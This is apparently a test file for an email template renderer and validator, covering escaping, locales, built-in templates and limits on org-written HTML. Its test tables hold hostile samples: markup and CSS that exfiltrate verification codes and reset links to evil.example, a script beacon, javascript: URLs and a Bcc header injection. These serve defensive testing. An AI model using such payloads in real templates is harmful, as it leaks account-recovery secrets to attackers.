import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { FACT_NAMES, MAIL_FACTS, MAIL_KINDS, type MailFacts } from './mail.ts'
import { linksOf } from './mail-links.ts'
import { inWords, languageOf, languagesFor, type MailTemplate, renderMail } from './template.ts'
import { checkTemplate, HTML_MAX, SUBJECT_MAX } from './template-rules.ts'
import { BUILT_IN_LANGUAGES, builtInTemplate } from './templates/built-in.ts'

const ORG = { name: 'Ada & Sons', url: 'https://id.example.com' }
const FACTS: MailFacts = {
  firstName: 'Ada',
  login: 'ada@example.com',
  link: 'https://id.example.com/a?b=1&c=2',
  code: '123456',
  minutes: '60',
  appLabel: 'Shop',
  factorName: 'Passkey',
}
const plain = (html: string): MailTemplate => ({ subject: 'S', html, text: html })
const render = (html: string, facts: MailFacts = FACTS) => renderMail(plain(html), facts, ORG, 'en')

describe('filling a template', () => {
  const cases: readonly [what: string, template: string, facts: MailFacts, html: string][] = [
    ['a value', '<p>${code}</p>', FACTS, '<p>123456</p>'],
    [
      'markup in a value as text',
      '${appLabel}',
      { appLabel: `<img src=x onerror='a'>"&` },
      '&lt;img src=x onerror=&#39;a&#39;&gt;&quot;&amp;',
    ],
    ['a variable in a value as text', '${appLabel}', { appLabel: '${code}', code: '1' }, '${code}'],
    ['a link in an attribute', '<a href="${link}">', FACTS, '<a href="https://id.example.com/a?b=1&amp;c=2">'],
    ['no line without its value', 'a\nb ${code}\nc', {}, 'a\nc'],
    ['no line whose condition fails', 'a\n${?link}b ${code}', { code: '1' }, 'a'],
    ['a line whose condition holds', '${?link}b ${code}', FACTS, 'b 123456'],
    ['no blank before a missing first name', 'Hello ${firstName},', {}, 'Hello,'],
    ['no link that is none', 'a\n${link}', { link: 'javascript:alert(1)' }, 'a'],
    ['a time in words', '${validFor}', FACTS, '1 hour'],
    ['the org', '${orgName} ${orgUrl}', {}, 'Ada &amp; Sons https://id.example.com'],
  ]
  for (const [what, template, facts, html] of cases)
    test(`shows ${what}`, () => assert.equal(render(template, facts).html, html))

  const names: readonly [name: string, shown: boolean][] = [
    ['Ada', true],
    ['Zoë-Marie d’Été', true],
    ['Ada M. Lovelace', true],
    ['李', true],
    ['You won: https://evil.example', false],
    ['evil.example', false],
    ['<b>Ada</b>', false],
    ['a'.repeat(51), false],
  ]
  for (const [firstName, shown] of names)
    test(`${shown ? 'greets' : 'does not carry'} ${firstName.slice(0, 30)}`, () =>
      assert.equal(render('Hello ${firstName}.', { firstName }).text, shown ? `Hello ${firstName}.` : 'Hello.'))

  test('the subject is one line whatever it is filled with', () => {
    const template = { subject: '${appLabel}', html: '', text: '' }
    const { subject } = renderMail(template, { appLabel: 'A\r\nBcc: eve@example.com\u2028B' }, ORG, 'en')
    assert.equal(subject, 'A Bcc: eve@example.com B')
  })
})

describe('languages', () => {
  const cases: readonly [string | undefined, readonly string[]][] = [
    ['de-AT', ['de-AT', 'de', 'en']],
    ['de_AT', ['de-AT', 'de', 'en']],
    ['DE', ['de', 'en']],
    ['en-GB', ['en-GB', 'en']],
    [undefined, ['en']],
    ['', ['en']],
    ['../../x', ['en']],
    ['de-DE@euro', ['en']],
  ]
  for (const [locale, expected] of cases) test(`for ${locale}`, () => assert.deepEqual(languagesFor(locale), expected))

  test('a tag has one spelling', () => assert.equal(languageOf('zh_hant_tw'), 'zh-Hant-TW'))

  test('a time is said in the words of each', () => {
    assert.equal(inWords(10_080, 'de'), '7 Tage')
    assert.equal(inWords(1_440, 'en'), '1 day')
    assert.equal(inWords(90, 'en'), '90 minutes')
    assert.equal(inWords(Number.NaN, 'en'), undefined)
  })
})

describe('our own templates', () => {
  for (const language of BUILT_IN_LANGUAGES)
    for (const kind of MAIL_KINDS)
      test(`${kind} in ${language} keeps the rules, and says all that it needs and nothing unfilled`, () => {
        const template = builtInTemplate(kind, language)
        assert.ok(template)
        checkTemplate(kind, template)
        const allowed = new Set([
          ...MAIL_FACTS[kind].required,
          ...MAIL_FACTS[kind].optional,
          'firstName',
          'login',
          'appLabel',
        ])
        const whole = Object.fromEntries(
          FACT_NAMES.filter((name) => allowed.has(name)).map((name) => [name, FACTS[name]]),
        )
        const least = Object.fromEntries(MAIL_FACTS[kind].required.map((name) => [name, FACTS[name]]))
        for (const facts of [whole, least]) {
          const { subject, html, text } = renderMail(template, facts, ORG, language)
          assert.ok(subject !== '' && !`${subject}${html}${text}`.includes('${'))
          for (const name of MAIL_FACTS[kind].required.filter((one) => one !== 'link'))
            assert.ok(html.includes(FACTS[name] ?? '') && text.includes(FACTS[name] ?? ''))
          const links = linksOf({ html, text })
          assert.equal(links.includes(FACTS.link ?? ''), 'link' in facts)
          assert.match(html, /^<!doctype html>\n<html lang=/)
          assert.doesNotMatch(html, /<script|<img|<link|url\(|@import/)
        }
      })

  const marks: readonly [kind: (typeof MAIL_KINDS)[number], facts: MailFacts, mark: string][] = [
    ['forgot-password', FACTS, '<a id="reset-password-link" href="https://id.example.com/a?b=1&amp;c=2"'],
    ['forgot-password', FACTS, 'Enter a code instead: 123456'],
    ['activation', FACTS, '<a id="email-activation-button" href="'],
    ['unlock-account', FACTS, '<a id="unlock-account-link" href="'],
    ['email-code', { code: '123456' }, 'verification code: <strong>123456</strong>'],
    ['email-code', FACTS, 'Enter a code instead: 123456'],
    ['email-enroll-code', { code: '123456' }, 'verification code: <strong>123456</strong>'],
  ]
  for (const [kind, facts, mark] of marks)
    test(`${kind} says ${mark.slice(0, 50)} to programs that look for it`, () => {
      const template = builtInTemplate(kind, 'en')
      assert.ok(template && renderMail(template, facts, ORG, 'en').html.includes(mark))
    })
})

describe('what an org may write', () => {
  const good = { subject: 'Reset at ${orgName}', html: '<a href="${link}">Reset</a>', text: 'Reset: ${link}' }
  const refused: readonly [what: string, change: Partial<MailTemplate>, cause: RegExp][] = [
    ['an empty subject', { subject: ' ' }, /^subject: The field cannot be left blank$/],
    ['a subject of two lines', { subject: 'a\r\nBcc: b' }, /^subject: The subject is one line/],
    ['a long subject', { subject: 'a'.repeat(SUBJECT_MAX + 1) }, /^subject: The field cannot exceed 200 characters$/],
    ['a link in the subject', { subject: '${link}' }, /^subject: \$\{link\} is not a variable here/],
    [
      'an unknown variable',
      { html: '${link} ${password}' },
      /^html: \$\{password\} is not a variable here; there are \$\{firstName\}/,
    ],
    ['a variable of another kind', { text: '${link} ${factorName}' }, /^text: \$\{factorName\} is not/],
    ['no link', { html: '<p>Reset</p>' }, /^html: The variable \$\{link\} is required$/],
    ['a link as condition alone', { text: '${?link}Reset' }, /^text: The variable \$\{link\} is required$/],
    [
      'a link in the address of a picture',
      { html: '${link}<img src="https://evil.example/${code}">' },
      /^html: Within a tag/,
    ],
    [
      'a link as part of an address',
      { html: '<a href="https://evil.example/?to=${link}">a</a>' },
      /^html: Within a tag/,
    ],
    ['too much', { html: `\${link}${'a'.repeat(HTML_MAX)}` }, /^html: The field cannot exceed 100000 characters$/],
  ]
  const leaks: readonly [what: string, html: string][] = [
    ['in a style', '<style>p{background:url(https://evil.example/?c=${code})}</style>'],
    ['in a style that never ends', '<style>p{background:url(https://evil.example/?c=${code})}'],
    [
      'in a style that another tag seems to end',
      '<style></b>a{background:url(https://evil.example/?c=${code})}</STYLE >',
    ],
    ['behind a > within quotes', '<img src="https://evil.example/?>${link}">'],
    ['behind a > within other quotes', `<img alt='>' src="https://evil.example/?\${link}">`],
    ['behind a > in another attribute', '<img alt=">" src="https://evil.example/?${link}">'],
    ['in quotes that never end', '<img src="https://evil.example/?>${code}'],
    ['in an unquoted value', '<img src=https://evil.example/?${code}>'],
    ['in single quotes', "<img src='https://evil.example/?${code}'>"],
    ['as the whole address of something else', '<img src="${link}">'],
    ['as the address of a style sheet', '<link rel="stylesheet" href="${link}">'],
    ['in a second address', '<a href="https://evil.example" href="${link}">a</a>'],
    ['in a link that pings', '<a href="${link}" ping="https://evil.example">a</a>'],
    ['as a link and more', '<a href="${link}" title="${code}">a</a>'],
    ['in a style attribute', '<p style="background:url(https://evil.example/?${code})">a</p>'],
    ['in a closing tag', '</a href="${link}">'],
    ['in the name of a tag', '<${login} src="https://evil.example">'],
    ['where a missing name would make a tag', '< ${firstName}img src="https://evil.example/?x=\n${code}\n">'],
    ['in a comment', '<!-- ${code} -->'],
    ['behind a comment that ends at once', '<!--><img alt="-->" src="https://evil.example/?${code}">'],
    ['behind a comment that ends with !', '<!-- --!><img alt="-->" src="https://evil.example/?${code}">'],
    ['in a comment of another kind', '<!x ${code}>'],
    [
      'in a title that a missing name ends',
      '<title>a</ti${firstName}tle><img src="https://evil.example/?</title>\n${code}',
    ],
    ['behind a title whose end has quotes', `<title></title a="><a b='"><img src="'>\${code}">`],
    ['in a tag of many lines', '<a\nhref="${link}"\ntitle="a">a</a>'],
    [
      'where a line that is left out opens what follows',
      '<b title="\n${?appLabel}">\n<img src="https://evil.example/?\n${code}\n">',
    ],
    ['in what is sent', '<form action="https://evil.example"><textarea name="c">${code}</textarea></form>'],
    ['in a script', '<script>new Image().src = "https://evil.example/?${code}"</script>'],
    ['in a drawing', `<svg><![CDATA[><a title="]]><img src='">\${code}'>`],
  ]
  const readers: readonly [what: string, html: string][] = [
    ['a style that selects by an address', '<style>a[href*="/A"]{background:url(https://evil.example/A)}</style>'],
    ['a style that loads another', '<style>@import url(https://evil.example/x.css);</style>'],
    ['a style that hides what it does', '<style>@\\69mport "https://evil.example/x.css";</style>'],
    ['a style that shows an address', '<style>a::after{content:attr(href)}</style>'],
    ['a style sheet from elsewhere', '<link rel=stylesheet href=https://evil.example/x.css>'],
    ['a page that leaves', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
    ['a referrer for everybody', '<meta name="referrer" content="unsafe-url">'],
    ['what runs', '<body onclick="alert(1)">'],
    ['an address that runs', '<a href="java\tscript:alert(1)">a</a>'],
  ]
  for (const [what, html] of readers)
    test(`not ${what}`, () =>
      assert.throws(
        () => checkTemplate('forgot-password', { ...good, html: `<a href="\${link}">a</a>\n${html}` }),
        ({ code, facts }) => code === 'validation_failed' && /^html: /.test(facts.causes[0]),
      ))

  for (const [what, html] of leaks)
    test(`no variable ${what}`, () =>
      assert.throws(
        () => checkTemplate('forgot-password', { ...good, html: `<p>\${link}</p>\n${html}` }),
        ({ code, facts }) => code === 'validation_failed' && /^html: /.test(facts.causes[0]),
      ))

  const kept: readonly [what: string, html: string][] = [
    [
      'a document',
      '<!DOCTYPE html>\n<html><head><title>${orgName}</title>\n<style>\np > a { color: red }\n</style></head>',
    ],
    ['a tag of many lines without one', '<table\n  width="100%"\n><tr><td title="a > b">'],
    ['a comment', '<!--[if mso]>\n<table><tr><td>\n<![endif]-->'],
    ['a link in capitals with a style', `<A CLASS=button HREF="\${link}" style='color:red'>Go, \${firstName}</A>`],
    ['a sign that opens nothing', '<p>1 < 2, 3 > 2 & ${code}</p>'],
    ['an empty element', '<br/><img src="https://id.example.com/logo.png" alt=""/>${code}'],
  ]
  for (const [what, html] of kept)
    test(`but ${what}`, () => checkTemplate('forgot-password', { ...good, html: `\${link}\n${html}` }))

  test('what keeps the rules', () => checkTemplate('forgot-password', good))
  for (const [what, change, cause] of refused)
    test(`not ${what}`, () =>
      assert.throws(
        () => checkTemplate('forgot-password', { ...good, ...change }),
        ({ code, facts }) => code === 'validation_failed' && cause.test(facts.causes[0]),
      ))
})
